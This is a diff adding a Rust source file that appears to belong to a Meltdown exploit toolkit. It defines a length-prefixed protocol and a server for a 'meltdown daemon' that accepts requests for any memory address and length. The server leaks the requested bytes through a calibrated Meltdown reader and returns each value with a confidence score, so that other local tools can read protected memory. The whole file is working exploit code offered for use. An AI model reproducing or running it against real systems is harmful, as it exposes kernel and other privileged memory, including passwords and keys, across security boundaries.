@@ -0,0 +1,127 @@
+//! The protocol `meltdown daemon` serves leaked reads with, so other local
+//! tools can read memory through one warm, calibrated reader without
+//! linking against this crate.
+//!
+//! Every message either way is a little endian u32 giving the length of the
+//! payload, then the payload. A request's payload is 12 bytes: the address
+//! to read from as a little endian u64, then the number of bytes to read as
+//! a little endian u32. The reply's payload starts with a status byte. After
+//! `STATUS_OK` come two bytes per byte read, its value and how confident the
+//! read is in it in percent, with `NOT_LEAKED` in place of the confidence
+//! for bytes that didn't leak. After `STATUS_ERROR` comes a message in
+//! UTF-8. A connection can send any number of requests, and each gets its
+//! reply before the next is read.
+
+use std::io::{self, Read, Write};
+
+use reader::MeltdownReader;
+use suppress::ExceptionSuppressor;
+
+/// The most bytes a single request can read.
+pub const MAX_READ: usize = 0x10000;
+
+pub const STATUS_OK: u8 = 0;
+pub const STATUS_ERROR: u8 = 1;
+
+/// The confidence given for a byte that didn't leak, whose value is 0.
+pub const NOT_LEAKED: u8 = 0xff;
+
+// the length of a request's payload
+const REQUEST_LEN: usize = 12;
+
+// the longest payload either way, a reply to a read of MAX_READ bytes
+const MAX_MESSAGE: usize = 1 + 2 * MAX_READ;
+
+fn le_bytes(value: u64, len: usize) -> Vec<u8> {
+    (0..len).map(|i| (value >> (8 * i)) as u8).collect()
+}
+
+fn from_le_bytes(bytes: &[u8]) -> u64 {
+    bytes
+        .iter()
+        .rev()
+        .fold(0u64, |value, &byte| value << 8 | byte as u64)
+}
+
+/// Reads the next message from `input`. None once the connection is closed
+/// between messages.
+pub fn read_message<R: Read>(input: &mut R) -> io::Result<Option<Vec<u8>>> {
+    let mut len = [0u8; 4];
+    match input.read_exact(&mut len) {
+        Ok(()) => {}
+        Err(ref e) if e.kind() == io::ErrorKind::UnexpectedEof => return Ok(None),
+        Err(e) => return Err(e),
+    }
+    let len = from_le_bytes(&len) as usize;
+    // anything longer is from a client speaking some other protocol
+    if len > MAX_MESSAGE {
+        return Err(io::Error::new(
+            io::ErrorKind::InvalidData,
+            format!("a message of {} bytes is too long", len),
+        ));
+    }
+    let mut payload = vec![0u8; len];
+    input.read_exact(&mut payload)?;
+    Ok(Some(payload))
+}
+
+/// Sends `payload` as a message.
+pub fn write_message<W: Write>(output: &mut W, payload: &[u8]) -> io::Result<()> {
+    output.write_all(&le_bytes(payload.len() as u64, 4))?;
+    output.write_all(payload)?;
+    output.flush()
+}
+
+fn error(message: &str) -> Vec<u8> {
+    let mut reply = vec![STATUS_ERROR];
+    reply.extend(message.as_bytes());
+    reply
+}
+
+/// Answers requests by leaking the memory they ask for.
+pub struct Server<'a, S: ExceptionSuppressor + 'a> {
+    reader: &'a MeltdownReader<S>,
+}
+
+impl<'a, S: ExceptionSuppressor> Server<'a, S> {
+    pub fn new(reader: &'a MeltdownReader<S>) -> Server<'a, S> {
+        Server { reader }
+    }
+
+    /// The reply to the request `payload`.
+    pub fn handle(&self, payload: &[u8]) -> Vec<u8> {
+        if payload.len() != REQUEST_LEN {
+            return error(&format!(
+                "expected a request of {} bytes, got {}",
+                REQUEST_LEN,
+                payload.len()
+            ));
+        }
+        let addr = from_le_bytes(&payload[..8]) as usize;
+        let len = from_le_bytes(&payload[8..]) as usize;
+        if len > MAX_READ {
+            return error(&format!("at most {} bytes can be read at once", MAX_READ));
+        }
+        let mut reply = Vec::with_capacity(1 + 2 * len);
+        reply.push(STATUS_OK);
+        for guess in self.reader.guess_range(addr as *const u8, len) {
+            match guess.value {
+                Some(value) => {
+                    reply.push(value);
+                    reply.push((guess.confidence() * 100.0) as u8)
+                }
+                None => reply.extend(&[0, NOT_LEAKED]),
+            }
+        }
+        reply
+    }
+
+    /// Answers requests from `input` on `output` until the client closes
+    /// the connection.
+    pub fn serve<R: Read, W: Write>(&self, mut input: R, mut output: W) -> io::Result<()> {
+        while let Some(request) = read_message(&mut input)? {
+            write_message(&mut output, &self.handle(&request))?
+        }
+        Ok(())
+    }
+}